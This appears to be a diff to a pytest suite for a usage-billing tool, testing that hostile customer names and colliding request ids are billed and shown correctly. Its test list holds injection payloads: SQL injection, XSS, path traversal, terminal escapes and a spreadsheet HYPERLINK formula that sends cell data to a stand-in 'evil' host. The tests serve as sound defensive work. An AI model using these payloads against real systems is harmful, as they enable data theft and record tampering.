@@ -17,10 +17,10 @@ from rollup_world import World
 from test_lines import audited, bill, line, send, usage
 
 VICTIM = "victim"
-NAMES = [
-    VICTIM, "Victim", "victim ", " victim", "victim\u200b", "victim\u0301", "v\u0456ctim",  # look alike
+NAMES = [  # by hand; more by chance, below
+    "Victim", "victim ", " victim", "victim\u200b", "victim\u0301", "v\u0456ctim",  # look alike
     "victim' OR '1'='1", "'; DROP TABLE restapi_access_log_parquet; --", "victim\\", "victim\\' --", "${account}", "%s%n", "victim/*", "*",  # SQL, formats
-    '=HYPERLINK("http://evil/?"&A1)', "+1", "-1+1", "@SUM(A1)", "'=1", "\tvictim",  # spreadsheets
+    "=victim", '=HYPERLINK("http://evil/?"&A1)', "+1", "-1+1", "@SUM(A1)", "'=1", "\tvictim",  # spreadsheets
     "<script>alert(1)</script>", "&lt;", "victim\", \"calls\": 0, \"x\": \"", "- a: b", "!!python/object:x", "a: [b", "# c", "{{7*7}}",  # HTML, JSON, YAML
     "a,b\"c", "a\nvictim,999999,0", "a\r\nb", "\x1b[2J\x1b[31mvictim", "\u202emitciv", "\u2066victim", "\x07", '"\\u0007"', "\x7f", "\u0085",  # CSV, terminals
     "null", "NULL", "true", "0", "1e9", "nan", "unattributed", "total", "2025-10-07", "..", "../../victim", "a=b/c=d",  # words of reports and paths
@@ -37,34 +37,9 @@ def plain(shown: str) -> str:
     return str(json.loads(shown)) if shown.startswith('"') else shown
 
 
-def test_each_pays_for_his_own(world: World) -> None:
-    """One event more for each name than for the one before, so that nobody's usage passes for another's."""
-    world.apply()
-    for number, name in enumerate(NAMES):
-        send(world, *[line(requestId=f"n{number}-{i}", sub=name, username=name, clientId=name, responseLength=str(number),
-                           path=f"/{name[:200]}") for i in range(number + 1)])
-    found = bill(world)
-    expected = {name: (number + 1, (number + 1) * number) for number, name in enumerate(NAMES)}
-    shown = usage(found)
-    assert {plain(name): usage for name, usage in shown.items()} == expected and len(shown) == len(expected)
-    total = sum(calls for calls, _ in expected.values())
-    rows = list(csv.DictReader(io.StringIO(world.run("bill", "--month", "2025-10", "-o", "csv").stdout)))
-    cells = {("'" + name if name[0] in "=+-@'" else name): calls for name, (calls, _) in shown.items()}
-    customers = [row for row in rows if row["customer"] in cells]
-    assert {row["customer"]: int(row["calls"]) for row in customers} == cells
-    assert not any(row["customer"][:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows)
-    assert sum(int(row["calls"]) for row in customers) == total
-    for words in (["-o", "text"], ["-o", "table"]):
-        text = world.run("bill", "--month", "2025-10", *words).stdout
-        acting = [c for c in text if c != "\n" and (ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "\u202e\u2066\u2028")]
-        assert not acting, acting
-    report = json.loads(audited(world, "-o", "json"))
-    assert report["format_version"] and "victim,999999" not in json.dumps(report["included"])
-
-
 def test_colliding_ids_take_nothing_from_another(world: World) -> None:
     """The same request id from two customers is two requests, or one; never the other's, and always told the same."""
-    world.apply()
+    books = Books(world)
     send(world, line(requestId="same", sub=VICTIM, responseLength="100"), line(requestId="same", sub="attacker", responseLength="7"),
          line(requestId="mine", sub=VICTIM, responseLength="1"))
     send(world, line(requestId="mine", sub="attacker", responseLength="1000000"))
@@ -72,6 +47,13 @@ def test_colliding_ids_take_nothing_from_another(world: World) -> None:
     assert found[VICTIM][1] <= 101 and found[VICTIM][0] <= 2, found
     assert found.get("attacker", (0, 0))[0] <= 2
     assert found[VICTIM] == (2, 101), found
+    # Nor does a sub that is called as the customer somebody else is.
+    world.write(more=MORE.format(key=books.key) + "      customers: [{sub: victim, customer: attacker}]\n")
+    refused = books.close("2025-10", "--accept-unknown", code=4)
+    assert any("the sub attacker has no entry in billing.customers" in reason for reason in refused["reasons"]), refused
+    world.write(more=MORE.format(key=books.key) + "      customers: [{sub: victim, customer: attacker}, {sub: attacker, customer: another}]\n")
+    closed = books.close("2025-10", "--accept-unknown")
+    assert {one["customer"]: (one["calls"], one["bytes"]) for one in closed["bill"]["lines"]} == {"attacker": (2, 101), "another": (2, 1000007)}
 
 
 # ---- by chance ----
@@ -127,7 +109,7 @@ def hostile(seed: int) -> Hostile:
         for _ in range(calls):
             made.add(name)
     names = sorted({one for name in HONEST for one in lookalikes(chance, name)})
-    names = sorted({*chance.sample(names, 160), "=victim"})
+    names = sorted({*chance.sample(names, 120), *NAMES})
     for name in names:
         made.add(name, length=chance.choice(list(LENGTHS)), status=chance.choice(STATUSES), requestTimeEpoch=chance.choice(TIMES),
                  path="/" + chance.choice(names)[:300], routeKey="GET /" + chance.choice(names)[:300])
@@ -144,7 +126,7 @@ def hostile(seed: int) -> Hostile:
         made.add(victim, requestId=f"same-{number}")
         made.add(name, requestId=f"copy-{number}", again=3)
         made.add(name, requestId=chance.choice(("-", "")), path=f"/{number}")
-    made.add("long" + "x" * 100_000)
+    made.add("long" + "x" * 10_000)  # as much as a header holds
     chance.shuffle(made.lines)
     return made
 
@@ -159,7 +141,8 @@ def test_a_hostile_month(world: World, seed: int) -> None:
     made = hostile(seed)
     assert len(made.truth) > 150
     send(world, *made.lines)
-    found = bill(world)
+    world.run("rollup", "--month", "2025-10")
+    found = json.loads(world.run("bill", "--month", "2025-10", "-o", "json").stdout)
     shown = usage(found)
     paid = {plain(name): list(one) for name, one in shown.items()}
     wrong = {name[:80]: (paid.get(name), made.truth.get(name)) for name in paid.keys() | made.truth.keys() if paid.get(name) != made.truth.get(name)}
@@ -167,16 +150,13 @@ def test_a_hostile_month(world: World, seed: int) -> None:
     totals = {plain(one["customer"]): Decimal(one["total"]) for one in found["lines"]}
     assert totals == {name: Decimal(calls) / 100 for name, (calls, _) in made.truth.items() if name}
     calls = sum(paid[0] for paid in made.truth.values())
-    csv.field_size_limit(1 << 20)
     rows = [row for row in csv.DictReader(io.StringIO(world.run("bill", "--month", "2025-10", "-o", "csv").stdout, newline="")) if row["line"] == "customer"]
-    assert sum(int(row["calls"]) for row in rows) == calls - made.truth[""][0] and len({row["customer"] for row in rows}) == len(totals)
+    assert {row["customer"]: int(row["calls"]) for row in rows} == {
+        ("'" + name if name[0] in "=+-@'" else name): one[0] for name, one in shown.items() if name}
+    assert sum(int(row["calls"]) for row in rows) == calls - made.truth[""][0]
     assert not any(row["customer"][:1] in tuple("=+-@\t\r") for row in rows)
     table = world.run("bill", "--month", "2025-10").stdout
     assert not [c for c in table if c != "\n" and (ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "\u200e\u200f\u2028\u2029\u202e\u2066\ufeff")]
-    world.write(more=MORE.format(key=books.key) + '      customers: [{sub: victim, customer: "=victim"}]\n')  # a name that somebody has
-    refused = books.close("2025-10", "--accept-unknown", code=4)
-    assert any("the sub =victim has no entry in billing.customers" in reason for reason in refused["reasons"]), refused
-    world.write(more=MORE.format(key=books.key))
     closed = books.close("2025-10", "--accept-unknown")
     assert {plain(one["customer"]): one["calls"] for one in closed["bill"]["lines"]} == {name: paid[0] for name, paid in made.truth.items() if name}
     assert books.verify("2025-10", "--from-raw")["verified"] is True
